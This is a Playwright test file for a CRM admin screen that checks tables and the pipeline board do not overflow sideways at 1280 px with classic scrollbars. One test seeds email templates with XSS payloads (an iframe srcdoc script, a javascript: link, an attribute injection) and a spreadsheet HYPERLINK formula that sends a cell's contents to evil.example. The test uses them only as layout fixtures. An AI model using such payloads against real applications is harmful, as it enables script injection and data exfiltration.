import { expect, test } from '../support/test.ts';
import { uniqueName } from '../support/unique.ts';
import {
  CRM_SCREEN_PATHS,
  createLead,
  createLeadFamily,
  documentOverflow,
  layoutSettled,
  searchLeads,
  signIn,
  waitForCrmScreen,
} from './support.ts';

// Playwright hides scrollbars in headless mode (--hide-scrollbars), as on a Mac with overlay
// scrollbars, so the other layout specs never see one take room. "Headed" here only leaves that flag
// out: --headless=new (playwright.config.ts) keeps the browser headless, and the page's and the
// table box's scrollbars take their 15 px each, as on Windows or Linux.
test.use({ headless: false });

const PIPELINE_PATH = '/admin/crm?section=leads&view=pipeline';

test.describe('the leads table fits a laptop with classic scrollbars', () => {
  test.beforeEach(async ({ page }) => {
    await signIn(page);
  });

  test("at 1280 × 800 the table fits beside two scrollbars, the page's and its box's own", async ({
    page,
    request,
  }) => {
    const family = await createLeadFamily(request, 'Tall', 12);
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.goto('/admin/crm?section=leads');
    await searchLeads(page, family);
    await expect(page.locator('tr.lead-row')).toHaveCount(12);
    const box = page.getByRole('region', { name: 'Leads table' });
    // Both scrollbars take their width: the page is taller than the window, the rows than the box.
    const sizes = await box.evaluate((element) => ({
      pageScrollsDown: document.documentElement.scrollHeight > document.documentElement.clientHeight,
      boxScrollsDown: element.scrollHeight > element.clientHeight,
      sideways: element.scrollWidth - element.clientWidth,
    }));
    expect(sizes).toEqual({ pageScrollsDown: true, boxScrollsDown: true, sideways: 0 });
    // The scrollbars are real here: the box's takes room.
    expect(
      await box.evaluate((element) => element.getBoundingClientRect().width - element.clientWidth),
    ).toBeGreaterThan(0);
    expect(await documentOverflow(page)).toBe(0);
  });

  test('no CRM screen scrolls sideways at 1280 px with the page scrollbar taking its room', async ({ page }) => {
    // Templates whose subject and text hold long runs with no place to break (the security spec's
    // markup payloads): they once ran out of their card and widened the page by 47 px, seen only when
    // that spec had run first on the same database.
    const word = uniqueName('Wide');
    for (const payload of [
      `'><iframe srcdoc="<script>parent.__xss=4;alert(4)</script>">`,
      `<a href="javascript:window.__xss=5;alert(5)">click</a>`,
      `=HYPERLINK("http://evil.example/?"&A1,"x")`,
      `" onmouseover="window.__xss=9;alert(9)" x="`,
    ]) {
      const name = `${word} ${payload}`;
      const made = await page.request.post('/api/admin/templates', {
        data: { name, type: 'email', subject: payload, content: `Hi {{firstName}} ${payload}` },
      });
      expect(made.status(), await made.text()).toBe(201);
    }
    await page.setViewportSize({ width: 1280, height: 800 });
    const overflowing: string[] = [];
    for (const path of CRM_SCREEN_PATHS) {
      await page.goto(path);
      await waitForCrmScreen(page);
      // The resting layout, not a frame of the screen laying out the data it has just received.
      await layoutSettled(page);
      if (path.endsWith('templates')) await expect(page.getByText(word).first()).toBeAttached();
      const overflow = await documentOverflow(page);
      if (overflow > 0) overflowing.push(`${path}: ${overflow} px`);
    }
    expect(overflowing).toEqual([]);
  });

  test('the pipeline does not scroll sideways with assigned leads in its last columns', async ({ page, request }) => {
    // An assignee's avatar holds their name for screen readers, absolutely positioned; in a card of the
    // Won column that name once escaped the board's scrolling and widened the page by 413 px.
    const ids: string[] = [];
    for (let index = 0; index < 3; index += 1)
      ids.push((await createLead(request, { firstName: uniqueName('Won') })).id);
    await page.goto('/admin/crm?section=leads');
    const statuses = await page.evaluate(async (leadIds) => {
      const json = { 'content-type': 'application/json' };
      const me = (await (await fetch('/api/admin/me')).json()) as { user: { id: string } };
      const assigned = await fetch('/api/admin/leads/assign', {
        method: 'POST',
        headers: json,
        body: JSON.stringify({ ids: leadIds, assignedTo: me.user.id }),
      });
      const won = await Promise.all(
        leadIds.map((id) =>
          fetch(`/api/admin/leads/${id}/status`, { method: 'PATCH', headers: json, body: '{"status":"Won"}' }),
        ),
      );
      return [assigned.status, ...won.map((answer) => answer.status)];
    }, ids);
    expect(statuses).toEqual([200, 200, 200, 200]);
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.goto(PIPELINE_PATH);
    await waitForCrmScreen(page);
    await expect(page.getByRole('region', { name: 'Won' }).locator('.person-chip').first()).toBeAttached();
    await layoutSettled(page);
    expect(await documentOverflow(page)).toBe(0);
  });
});
